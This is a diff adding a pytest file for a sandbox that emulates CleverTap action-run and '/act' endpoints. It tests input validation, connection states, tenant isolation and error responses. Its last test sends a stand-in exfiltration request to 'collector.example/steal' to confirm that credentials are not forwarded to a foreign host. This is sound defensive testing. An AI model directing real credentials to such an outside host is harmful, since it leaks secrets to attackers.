@@ -1,0 +1,214 @@
+"""Running actions: `POST /actions/{id}/run` and `POST /act` (§3.4, §3.5, §10 #9, #13)."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import httpx2
+import pytest
+from membrane_sandbox_support import InProcessSandbox
+
+from clevertap_mcp.sandbox.membrane.runs import ignore_extras
+
+EVENT_COUNT_INPUT = {"event_name": "Charged", "from": 20260101, "to": 20260105}
+NO_DATA: dict[str, Any] = {}
+
+
+async def _run(client: httpx2.AsyncClient, action: str, body: Any, **params: str) -> httpx2.Response:
+    return await client.post(f"/actions/{action}/run", params=params, json=body)
+
+
+@pytest.mark.anyio
+async def test_running_an_action_calls_clevertap_and_answers_output_and_a_run_id(sandbox: InProcessSandbox) -> None:
+    conn = await sandbox.ready_connection()
+    first = await _run(sandbox.client, "real-time-user-count", {"input": {}}, connectionId=conn["id"])
+    second = await _run(sandbox.client, "act_08", {"input": EVENT_COUNT_INPUT}, connectionKey=conn["id"])
+    assert first.status_code == 200, first.text
+    assert set(first.json()["output"]) == {"count", "last_processed_ts"}
+    assert first.json()["actionRunId"] == "run_0001"
+    assert (second.status_code, second.json()["actionRunId"]) == (200, "run_0002")
+    assert isinstance(second.json()["output"]["count"], int)
+    paths = [entry["path"] for entry in (await sandbox.client.get("/_sandbox/requests")).json()["items"]]
+    assert "/clevertap/eu1/1/now.json" in paths
+
+
+@pytest.mark.anyio
+async def test_a_run_without_input_runs_with_empty_input(sandbox: InProcessSandbox) -> None:
+    conn = await sandbox.ready_connection()
+    response = await sandbox.client.post(f"/actions/real-time-user-count/run?connectionId={conn['id']}")
+    assert response.status_code == 200
+
+
+@pytest.mark.anyio
+async def test_a_run_by_integration_key_uses_the_tenants_only_connection(sandbox: InProcessSandbox) -> None:
+    await sandbox.ready_connection()
+    response = await _run(sandbox.client, "real-time-user-count", {"input": {}}, integrationKey="clevertap")
+    assert response.status_code == 200
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    ("action", "run_input", "named"),
+    [
+        ("get-event-count", {"from": 20260101, "to": 20260105}, "'event_name' is a required property"),
+        ("get-event-count", {**EVENT_COUNT_INPUT, "from": "yesterday"}, "input.from"),
+        ("upload-events", {"events": [{"identity": "u", "evtName": 7, "evtData": NO_DATA}]}, "input.events[0].evtName"),
+        ("upload-events", {"events": [{"evtName": "Seen", "evtData": NO_DATA}]}, "needs one of 'identity', 'objectId'"),
+        ("create-campaign", {"name": "n", "target_mode": "push", "content": NO_DATA, "when": "now", "where": {
+            "event_name": "e", "from": 20260101, "to": 20260102}, "segment": 3}, "must not combine 'where', 'segment'"),
+        ("real-time-user-count", "not an object", "is not of type 'object'"),
+    ],
+)  # fmt: skip
+async def test_input_that_fails_the_schema_is_400_naming_the_field(
+    sandbox: InProcessSandbox, action: str, run_input: Any, named: str
+) -> None:
+    conn = await sandbox.ready_connection()
+    response = await _run(sandbox.client, action, {"input": run_input}, connectionId=conn["id"])
+    assert response.status_code == 400
+    body = response.json()
+    assert body["type"] == "bad_request"
+    assert named in body["message"]
+    assert "actionRunId" not in body
+
+
+@pytest.mark.anyio
+async def test_extra_input_properties_are_ignored(sandbox: InProcessSandbox) -> None:
+    conn = await sandbox.ready_connection()
+    response = await _run(
+        sandbox.client, "get-event-count", {"input": {**EVENT_COUNT_INPUT, "colour": "blue"}}, connectionId=conn["id"]
+    )
+    assert response.status_code == 200, response.text
+
+
+def test_ignoring_extras_drops_only_undeclared_properties_where_the_schema_declares_some() -> None:
+    schema: dict[str, Any] = {
+        "type": "object",
+        "properties": {
+            "keep": {"type": "object", "properties": {"a": NO_DATA}},
+            "free": {"type": "object"},
+            "open": {"type": "object", "properties": {"a": NO_DATA}, "additionalProperties": True},
+            "rows": {"type": "array", "items": {"type": "object", "properties": {"x": NO_DATA}}},
+        },
+    }
+    value = {
+        "keep": {"a": 1, "b": 2},
+        "free": {"any": 1},
+        "open": {"a": 1, "b": 2},
+        "rows": [{"x": 1, "y": 2}],
+        "extra": True,
+    }
+    assert ignore_extras(schema, value) == {
+        "keep": {"a": 1},
+        "free": {"any": 1},
+        "open": {"a": 1, "b": 2},
+        "rows": [{"x": 1}],
+    }
+
+
+@pytest.mark.anyio
+async def test_running_on_a_connection_that_is_not_ready_is_400_connection(api: httpx2.AsyncClient) -> None:
+    conn = (await api.post("/connections/ensure", json={"appUrl": "clevertap.com"})).json()
+    response = await _run(api, "get-event-count", {"input": {}}, connectionId=conn["id"])
+    assert response.status_code == 400
+    body = response.json()
+    assert body["type"] == "connection"
+    assert "CLIENT_ACTION_REQUIRED" in body["message"]
+    assert body["data"] == {"connectionId": conn["id"], "state": "CLIENT_ACTION_REQUIRED"}
+
+
+@pytest.mark.anyio
+async def test_running_on_a_defunct_connection_is_400_connection_is_defunct(sandbox: InProcessSandbox) -> None:
+    conn = await sandbox.ready_connection()
+    await sandbox.force_state(conn["id"], state="READY", isDefunct=True)
+    response = await _run(sandbox.client, "real-time-user-count", {"input": {}}, connectionId=conn["id"])
+    assert (response.status_code, response.json()["type"]) == (400, "connection")
+    assert response.json()["key"] == "connection_is_defunct"
+
+
+@pytest.mark.anyio
+async def test_running_an_unknown_action_or_on_an_unknown_connection_is_404(sandbox: InProcessSandbox) -> None:
+    conn = await sandbox.ready_connection()
+    unknown_action = await _run(sandbox.client, "launch-rocket", {"input": {}}, connectionId=conn["id"])
+    unknown_conn = await _run(sandbox.client, "real-time-user-count", {"input": {}}, connectionId="conn_0404")
+    theirs = await sandbox.ready_connection("another-tenant")
+    other_tenant = await _run(sandbox.client, "real-time-user-count", {"input": {}}, connectionId=theirs["id"])
+    assert [r.status_code for r in (unknown_action, unknown_conn, other_tenant)] == [404, 404, 404]
+
+
+@pytest.mark.anyio
+async def test_a_run_with_no_connection_selected_is_400(api: httpx2.AsyncClient) -> None:
+    assert (await _run(api, "real-time-user-count", {"input": {}})).status_code == 400
+
+
+@pytest.mark.anyio
+async def test_a_run_clevertap_refuses_is_400_action_run_with_its_run_id(sandbox: InProcessSandbox) -> None:
+    conn = await sandbox.ready_connection()
+    refused: dict[str, Any] = {"events": [{"identity": "u1", "evtName": "App Launched", "evtData": {}}]}
+    response = await _run(sandbox.client, "upload-events", {"input": refused}, connectionId=conn["id"])
+    assert response.status_code == 400
+    body = response.json()
+    assert (body["type"], body["actionRunId"]) == ("action_run", "run_0001")
+    assert body["data"]["status"] == "fail"
+
+
+@pytest.mark.anyio
+async def test_act_runs_an_action_by_key_through_the_only_connection(sandbox: InProcessSandbox) -> None:
+    await sandbox.ready_connection()
+    response = await sandbox.client.post("/act", json={"key": "get-event-count", "input": EVENT_COUNT_INPUT})
+    assert response.status_code == 200, response.text
+    assert response.json()["actionRunId"] == "run_0001"
+
+
+@pytest.mark.anyio
+async def test_act_calls_the_api_through_the_connection(sandbox: InProcessSandbox) -> None:
+    conn = await sandbox.ready_connection(key="ct")
+    body: dict[str, Any] = {"api": {"method": "post", "path": "/1/now.json", "body": {}}, "connectionKey": "ct"}
+    response = await sandbox.client.post("/act", json=body)
+    assert response.status_code == 200, response.text
+    assert response.json()["output"]["status"] == "success"
+    failing = {"api": {"method": "GET", "path": "/1/nowhere.json"}, "connectionId": conn["id"]}
+    refused = await sandbox.client.post("/act", json=failing)
+    assert (refused.status_code, refused.json()["type"], refused.json()["data"]["status"]) == (400, "action_run", 404)
+    assert refused.json()["actionRunId"] == "run_0002"
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize(
+    ("body", "message"),
+    [
+        ({"key": "get-event-count", "surprise": 1}, "surprise"),
+        ({"key": "get-event-count", "id": "act_08"}, "exactly one"),
+        ({}, "exactly one"),
+        ({"code": "export default () => 1"}, "not emulated"),
+        ({"api": {"method": "TRACE", "path": "/1/now.json"}}, "api.method"),
+        ({"api": {"method": "GET", "path": "/1/x", "verb": "GET"}}, "verb"),
+    ],
+)
+async def test_act_refuses_a_malformed_body_with_400(
+    sandbox: InProcessSandbox, body: dict[str, Any], message: str
+) -> None:
+    await sandbox.ready_connection()
+    response = await sandbox.client.post("/act", json=body)
+    assert response.status_code == 400
+    assert message in response.json()["message"]
+
+
+@pytest.mark.anyio
+async def test_act_without_a_resolvable_connection_is_400(sandbox: InProcessSandbox) -> None:
+    await sandbox.ready_connection(key="a")
+    await sandbox.ready_connection(key="b")
+    response = await sandbox.client.post("/act", json={"api": {"method": "GET", "path": "/1/now.json"}})
+    assert response.status_code == 400
+    assert "No connection resolves" in response.json()["message"]
+
+
+@pytest.mark.anyio
+async def test_act_refuses_to_send_credentials_to_a_foreign_host(sandbox: InProcessSandbox) -> None:
+    await sandbox.ready_connection()
+    body = {"api": {"method": "GET", "url": "https://collector.example/steal"}}
+    response = await sandbox.client.post("/act", json=body)
+    assert (response.status_code, response.json()["type"]) == (502, "connection")
+    log = (await sandbox.client.get("/_sandbox/requests")).json()["items"]
+    assert [(e["path"], e["exfiltration"], e.get("targetHost")) for e in log if e["exfiltration"]] == [
+        ("/act", True, "collector.example")
+    ]
